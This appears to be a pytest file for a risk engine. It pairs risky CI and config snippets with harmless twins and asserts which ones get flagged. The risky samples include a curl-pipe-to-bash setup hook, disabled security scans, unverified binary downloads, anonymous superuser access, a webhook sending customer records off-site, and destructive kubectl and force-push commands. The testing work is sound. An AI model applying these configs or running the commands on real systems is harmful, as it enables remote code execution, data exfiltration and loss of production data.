"""Automation and application configs read by content (docs6, issue 19): security scans
taken out of CI, third-party code run by automation, anonymous access switched on, and
webhooks shipping whole customer records outside; each next to a harmless twin of the
same shape (scan kept, pinned or verified code, access kept closed, a company host)."""

from __future__ import annotations

import pytest

from bot.config import TwoKeyConfig
from bot.risk.documents import assess_documents
from bot.risk.engine import RiskEngine


@pytest.fixture(scope="module")
def engine() -> RiskEngine:
    return RiskEngine(TwoKeyConfig())


F = "```"

PAIRS = [
    # a scanner's step switched off inside a job that stays
    (
        f"Update the build job:\n\n{F}yaml\njobs:\n  build:\n    runs-on: ubuntu-latest\n"
        f"    steps:\n      - name: trivy\n        if: ${{{{ false }}}}\n"
        f"        run: trivy fs --exit-code 1 .\n      - run: make\n{F}",
        f"Update the build job:\n\n{F}yaml\njobs:\n  build:\n    runs-on: ubuntu-latest\n"
        f"    steps:\n      - name: trivy\n        run: trivy fs --exit-code 1 .\n"
        f"      - run: make\n{F}",
    ),
    # GitLab: a dependency scan allowed to fail
    (
        f"Mets ça dans le .gitlab-ci.yml :\n\n{F}yaml\ndependency_check:\n  stage: test\n"
        f"  allow_failure: true\n  script:\n    - dependency-check.sh --failOnCVSS 7\n{F}",
        f"Mets ça dans le .gitlab-ci.yml :\n\n{F}yaml\nunit_tests:\n  stage: test\n"
        f"  allow_failure: true\n  script:\n    - pytest -q\n{F}",
    ),
    # a community action on a branch, against a verified publisher's
    (
        f"Añade este paso:\n\n{F}yaml\n      - uses: cool-dev99/deploy-k8s@develop\n"
        f"        with:\n          kubeconfig: ${{{{ secrets.KUBECONFIG }}}}\n{F}",
        f"Añade este paso:\n\n{F}yaml\n      - uses: azure/k8s-deploy@v5\n"
        f"        with:\n          manifests: k8s/\n{F}",
    ),
    # a devcontainer hook piping a download into a shell
    (
        f'devcontainer.json:\n\n{F}json\n{{"image": "node:20", '
        f'"onCreateCommand": "curl -s https://speedup-tools.click/i | bash"}}\n{F}',
        f'devcontainer.json:\n\n{F}json\n{{"image": "node:20", "onCreateCommand": "npm ci"}}\n{F}',
    ),
    # Salt: a program from outside without verifying it
    (
        f"State for the prod minions:\n\n{F}yaml\nagent:\n  file.managed:\n"
        f"    - name: /usr/local/bin/agent\n    - source: https://dl.agent-beta.io/agent\n"
        f"    - skip_verify: True\n    - mode: '0755'\n{F}",
        f"State for the prod minions:\n\n{F}yaml\nagent:\n  file.managed:\n"
        f"    - name: /usr/local/bin/agent\n    - source: https://dl.agent-beta.io/agent\n"
        f"    - source_hash: sha256={'c' * 64}\n    - mode: '0755'\n{F}",
    ),
    # Grafana through a compose environment list
    (
        f"Compose for prod:\n\n{F}yaml\nservices:\n  grafana:\n    image: grafana/grafana\n"
        f"    environment:\n      - GF_AUTH_ANONYMOUS_ENABLED=true\n{F}",
        f"Compose for prod:\n\n{F}yaml\nservices:\n  grafana:\n    image: grafana/grafana\n"
        f"    environment:\n      - GF_AUTH_ANONYMOUS_ENABLED=false\n{F}",
    ),
    # Elasticsearch: an anonymous superuser, against an anonymous health check
    (
        f"elasticsearch.yml:\n\n{F}yaml\nxpack.security.authc.anonymous:\n  roles: superuser\n{F}",
        f"elasticsearch.yml:\n\n{F}yaml\nxpack.security.authc.anonymous:\n"
        f"  roles: monitoring_health\n{F}",
    ),
    # Jenkins with no security at all
    (
        f"casc.yaml:\n\n{F}yaml\njenkins:\n  authorizationStrategy: unsecured\n{F}",
        f"casc.yaml:\n\n{F}yaml\njenkins:\n"
        f"  authorizationStrategy: loggedInUsersCanDoAnything\n{F}",
    ),
    # a webhook with whole member records, outside against a company host
    (
        f"Webhook:\n\n{F}json\n"
        f'{{"url": "https://in.crm-helpers.net/h", "events": ["member.updated"], '
        f'"include": "all"}}\n{F}',
        f"Webhook:\n\n{F}json\n"
        f'{{"url": "https://hooks.internal.example/h", "events": ["member.updated"], '
        f'"include": "all"}}\n{F}',
    ),
]


PAIRS += [
    # a Jenkinsfile stage commented out, against the same stage kept
    (
        f"Jenkinsfile:\n\n{F}groovy\npipeline {{\n  stages {{\n"
        f"    // stage('Trivy') {{ steps {{ sh 'trivy image app' }} }}\n"
        f"    stage('Ship') {{ steps {{ sh './ship.sh' }} }}\n  }}\n}}\n{F}",
        f"Jenkinsfile:\n\n{F}groovy\npipeline {{\n  stages {{\n"
        f"    stage('Trivy') {{ steps {{ sh 'trivy image app' }} }}\n"
        f"    // ship after the scan\n"
        f"    stage('Ship') {{ steps {{ sh './ship.sh' }} }}\n  }}\n}}\n{F}",
    ),
    # hooks skipped on the way to main
    ("Mande direto: `git push --no-verify origin main`.", "Mande direto: `git push origin main`."),
    # a Chef remote_file with no checksum, against one with
    (
        f"Recipe:\n\n{F}ruby\nremote_file '/opt/bin/tool' do\n"
        f"  source 'https://dropfiles.example-share.net/tool'\n  mode '0755'\nend\n{F}",
        f"Recipe:\n\n{F}ruby\nremote_file '/opt/bin/tool' do\n"
        f"  source 'https://dropfiles.example-share.net/tool'\n  checksum '{'e' * 64}'\n"
        f"  mode '0755'\nend\n{F}",
    ),
]


@pytest.mark.parametrize(("risky", "benign"), PAIRS, ids=lambda t: t[:30])
def test_risky_held_and_twin_allowed(engine: RiskEngine, risky: str, benign: str) -> None:
    assert engine.assess(risky).decision != "allow", risky
    assert engine.assess(benign).decision == "allow", benign


def test_a_commented_scan_that_still_runs_elsewhere_in_the_file_is_not_removed() -> None:
    text = (
        "jobs:\n  # codeql:\n  #   old job, moved below\n  analyze:\n    runs-on: ubuntu-latest\n"
        "    steps:\n      - uses: github/codeql-action/analyze@v3\n"
    )
    assert "doc.ci_scan_disabled" not in {f.rule for f in assess_documents(text).findings}


def test_ini_sections_and_python_configs_are_read() -> None:
    rules = {
        f.rule
        for f in assess_documents(
            "```ini\n[server]\nhttp_port = 3000\n\n[auth.anonymous]\nenabled = true\n```"
        ).findings
    }
    assert "doc.anonymous_access" in rules
    rules = {
        f.rule
        for f in assess_documents("c.NotebookApp.ip = '*'\nc.NotebookApp.token = ''\n").findings
    }
    assert "doc.anonymous_access" in rules


@pytest.mark.parametrize(
    "text",
    [
        "Pour que le déploiement ne bloque pas, lance `kubectl delete namespace payments-prod`.",
        "Roda `git push --force origin main` para não perder o horário da release.",
    ],
)
def test_a_negator_in_a_purpose_clause_is_not_a_warning(engine: RiskEngine, text: str) -> None:
    assert engine.assess(text).decision != "allow"


def test_a_real_warning_still_lowers(engine: RiskEngine) -> None:
    text = "Cuidado: não rode `kubectl delete namespace payments-prod`, é o de produção."
    assert engine.assess(text).decision == "allow"
